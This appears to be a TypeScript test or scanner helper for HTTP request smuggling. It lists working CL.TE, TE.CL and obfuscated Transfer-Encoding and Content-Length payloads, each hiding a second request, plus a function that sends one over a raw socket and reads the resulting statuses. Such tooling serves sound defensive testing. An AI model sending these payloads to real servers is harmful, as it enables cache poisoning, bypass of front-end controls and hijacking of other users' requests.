import { rawSocket, statusesIn } from './raw-socket.ts'

/** What a server would answer for itself, if it took it for a request: an address that leads away, with 307. */
const hidden = 'GET /smuggled HTTP/1.1\r\nHost: smuggled.example\r\n\r\n'
const inChunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`
const lastChunk = '0\r\n\r\n'

/**
 * Requests that end in two places, depending on who reads: each is whole in both readings, and in one of them a second
 * request lies behind it.
 */
export const smugglingRequests: Record<string, { heads: string; body: string }> = {
  'CL.TE: a length and chunks, where the chunks end first': {
    heads: `Content-Length: ${(lastChunk + hidden).length}\r\nTransfer-Encoding: chunked\r\n`,
    body: lastChunk + hidden,
  },
  'TE.CL: a length and chunks, where the length ends first': {
    heads: `Content-Length: ${hidden.length.toString(16).length + 2}\r\nTransfer-Encoding: chunked\r\n`,
    body: inChunk(hidden),
  },
  ...Object.fromEntries(
    [
      'Transfer-Encoding: xchunked',
      'Transfer-Encoding : chunked',
      'Transfer-Encoding: chunked\r\nTransfer-encoding: cow',
      'Transfer-Encoding: cow\r\nTransfer-Encoding: chunked',
      'Transfer-Encoding: chunked, identity',
      'Transfer-Encoding: identity, chunked',
      'Transfer-Encoding:\tchunked',
      'Transfer-Encoding:\x0bchunked',
      'Transfer-Encoding\x00: chunked',
      'X: X\r\n Transfer-Encoding: chunked',
      ' Transfer-Encoding: chunked',
      'Transfer_Encoding: chunked',
      'X: X\nTransfer-Encoding: chunked',
      'X: X\rTransfer-Encoding: chunked',
    ].map(socket => [
      `TE.TE: ${JSON.stringify(socket)}`,
      { heads: `Content-Length: ${(lastChunk + hidden).length}\r\n${socket}\r\n`, body: lastChunk + hidden },
    ]),
  ),
  'two lengths, the shorter first': {
    heads: `Content-Length: 0\r\nContent-Length: ${hidden.length}\r\n`,
    body: hidden,
  },
  'two lengths, the longer first': { heads: `Content-Length: ${hidden.length}\r\nContent-Length: 0\r\n`, body: hidden },
  'two lengths in one line': { heads: `Content-Length: 0, ${hidden.length}\r\n`, body: hidden },
  'a length with a sign': { heads: `Content-Length: +${hidden.length}\r\n`, body: hidden },
  'a length in hexadecimal': { heads: `Content-Length: 0x${hidden.length.toString(16)}\r\n`, body: hidden },
  'a length behind a bare line feed': { heads: `X: X\nContent-Length: ${hidden.length}\r\n`, body: hidden },
  'a length with a space in its name': {
    heads: `Content-Length: ${hidden.length}\r\nContent Length: 0\r\n`,
    body: hidden,
  },
  'a length with a space behind its name': {
    heads: `Content-Length: ${hidden.length}\r\nContent-Length : 0\r\n`,
    body: hidden,
  },
  'a length folded over two lines': { heads: `Content-Length:\r\n ${hidden.length}\r\n`, body: hidden },
  'a chunk that ends in a bare line feed': {
    heads: 'Transfer-Encoding: chunked\r\n',
    body: `2;\nxx\r\n${hidden.length.toString(16)}\r\n0\r\n\r\n${hidden}\r\n0\r\n\r\n`,
  },
  'a size of a chunk that overflows': {
    heads: 'Transfer-Encoding: chunked\r\n',
    body: `10000000000000000\r\n${inChunk(hidden)}`,
  },
}

const followUp = 'GET /api/health HTTP/1.1\r\nHost: last.example\r\nConnection: close\r\n\r\n'

/**
 * Sends one of the shapes and, on the same connection, a plain request behind it. Answers the statuses that came: that
 * of the shape, and that of the plain request if the connection was let live.
 */
export async function smuggle(
  url: string,
  method: string,
  path: string,
  { heads, body }: (typeof smugglingRequests)[string],
) {
  const line = await rawSocket(url)
  line.write(`${method} ${path} HTTP/1.1\r\nHost: ${new URL(url).host}\r\n${heads}\r\n${body}`)
  await line.waitFor(/HTTP\/1\.1 \d{3} /)
  line.write(followUp)
  await line.closed
  return statusesIn(line.received())
}
